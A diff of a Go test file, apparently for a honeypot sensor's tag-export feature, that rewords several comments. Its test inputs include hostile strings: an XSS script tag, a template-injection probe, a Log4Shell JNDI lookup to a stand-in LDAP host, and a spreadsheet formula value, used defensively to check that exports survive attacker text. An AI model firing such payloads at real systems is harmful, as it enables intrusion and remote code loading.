@@ -21,8 +21,7 @@ var hostileTexts = []string{
 	`\u0000 nul \u0000`, "\xff\xfe\xc3(", `\udcff \ud83d alone \ud83d\ude00`, `</script><script>alert(1)</script>`, `{{7*7}}${jndi:ldap://203.0.113.9/a}`, `\u2028\u2029 |pipe\\back`, `+1-1@SUM(A1)`,
 }
 
-// hostileEvents has the texts in every member that an attacker, or a sensor of whatever
-// kind, gives a text to.
+// hostileEvents has the texts in every member that an attacker, or any sensor, can set.
 func hostileEvents() string {
 	var b strings.Builder
 	for i := range 6 * len(hostileTexts) {
@@ -57,8 +56,8 @@ var selections = []string{
 	"--since 2026-05-05 --until 2026-05-06", "--since 2026-05-04T12:30:00Z", "--min-level high", "--min-level low", "--sensor pot-1", "--tactic discovery --level informational,low", "--until 2020-01-01",
 }
 
-// TestExportedTags holds that an export in any format has the tags that tags --json shows
-// under the same flags, and no other, and that a daemon changes not a byte of it.
+// TestExportedTags: an export in any format has exactly the tags that tags --json shows
+// under the same flags, and a daemon changes not a byte of it.
 func TestExportedTags(t *testing.T) {
 	n := newNode(t, rarely)
 	n.Write("hostile.jsonl", hostileEvents())
@@ -146,8 +145,8 @@ func (n *node) shown(t *testing.T, flags string) (tags []shownUUID) {
 	return tags
 }
 
-// uuidsFor are those that a format can have, sorted: DECNET has a place only for tags of
-// attackers.
+// uuidsFor are the tags that a format can have, sorted: DECNET has a place only for tags
+// of attackers.
 func uuidsFor(format string, tags []shownUUID) (uuids []string) {
 	for _, tag := range tags {
 		if format != "decnet" || tag.Attacker != "" {
@@ -158,8 +157,8 @@ func uuidsFor(format string, tags []shownUUID) (uuids []string) {
 	return uuids
 }
 
-// exported exports, and returns all bytes that were written, of files under their names,
-// beside the stream and where it was written to.
+// exported exports, and returns all written bytes, by file name, with the stream and the
+// destination.
 func (n *node) exported(t *testing.T, f export.Format, flags string) (all string, stream []byte, path string) {
 	t.Helper()
 	args := strings.Fields("export --format " + f.Name + " " + flags)
@@ -183,7 +182,7 @@ func (n *node) exported(t *testing.T, f export.Format, flags string) (all string
 	return tree(t, path), nil, path
 }
 
-// tree is what a file holds, or a folder, with the names of what is in it.
+// tree is the content of a file or folder, with names.
 func tree(t *testing.T, path string) string {
 	t.Helper()
 	var all strings.Builder
